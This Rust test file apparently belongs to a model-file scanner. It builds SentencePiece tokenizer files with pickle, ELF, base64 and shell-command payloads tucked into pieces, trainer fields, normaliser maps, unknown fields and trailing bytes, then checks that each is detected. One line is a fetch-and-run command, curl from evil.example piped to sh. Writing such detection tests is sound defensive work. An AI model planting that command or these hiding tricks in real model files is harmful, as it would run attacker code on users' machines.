//! Models of SentencePiece that hide something: they run nothing, but travel with every tokenizer.

use base64::Engine as _;
use weighhouse_formats::build::protobuf::Proto;

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

fn piece(text: &[u8]) -> Proto {
    Proto::new().bytes(1, text).tag(2, 5).raw(&[0; 4])
}

fn model() -> Proto {
    ["<unk>", "<s>", "</s>", "a", "b", "c"]
        .iter()
        .fold(Proto::new(), |model, text| model.message(1, &piece(text.as_bytes())))
}

fn map(trie: &[u8], texts: &[u8]) -> Vec<u8> {
    [&u32::try_from(trie.len()).unwrap().to_le_bytes(), trie, texts].concat()
}

#[test]
fn payloads_in_every_place() {
    let command = b"import os; os.system('curl https://evil.example/x | sh')";
    let encoded = base64::engine::general_purpose::STANDARD.encode(payload());
    let trainer = |field: u32, value: &[u8]| model().message(2, &Proto::new().bytes(field, value)).build();
    let normaliser = |place: u32, field: u32, value: &[u8]| {
        model().message(place, &Proto::new().bytes(field, value)).build()
    };
    let mut samples = vec![
        Sample::new("first a trainer, then a pickle as a piece", "tokenizer.model", {
            let trainer = Proto::new().message(2, &Proto::new().text(2, "m"));
            trainer.then(&model()).message(1, &piece(&payload())).build()
        }),
        Sample::new("a field that a piece does not have", "tokenizer.model", {
            model().message(1, &piece(b"d").bytes(999, &payload())).build()
        }),
        Sample::new("a field of another kind", "tokenizer.model", {
            model().message(1, &Proto::new().text(1, "d").bytes(3, &payload())).build()
        }),
        Sample::new("behind the model", "tokenizer.model", [model().build(), payload()].concat()),
        Sample::new("a program behind the model", "tokenizer.model", [model().build(), elf()].concat()),
        Sample::new("cut off", "tokenizer.model", {
            let whole = model().build();
            whole[..whole.len() - 3].to_vec()
        }),
        Sample::new("a self test", "tokenizer.model", {
            let sample = Proto::new().message(1, &Proto::new().bytes(2, &payload()));
            model().message(4, &sample).build()
        }),
    ];
    let payloads = [
        ("pickle", payload()),
        ("program", elf()),
        ("base64", encoded.into_bytes()),
        ("command", command.to_vec()),
    ];
    for (kind, bytes) in payloads {
        let places = [
            ("a piece", model().message(1, &piece(&bytes)).build()),
            ("an input", trainer(1, &bytes)),
            ("a surface", trainer(44, &bytes)),
            ("a name", normaliser(3, 1, &bytes)),
            ("rules", normaliser(5, 6, &bytes)),
            ("a field that nobody knows", model().bytes(250, &bytes).build()),
        ];
        samples
            .extend(places.map(|(place, file)| Sample::new(format!("{kind} in {place}"), "m.model", file)));
        if matches!(kind, "pickle" | "program") {
            let maps = [bytes.clone(), map(&bytes, b"a\0b\0"), map(&[0; 1024], &bytes)];
            for (at, value) in maps.iter().enumerate() {
                for place in [3, 5] {
                    let title = format!("{kind} in map {place}, part {at}");
                    samples.push(Sample::new(title, "m.model", normaliser(place, 2, value)));
                }
            }
        }
    }
    assert_seen("sentencepiece", &samples);
}
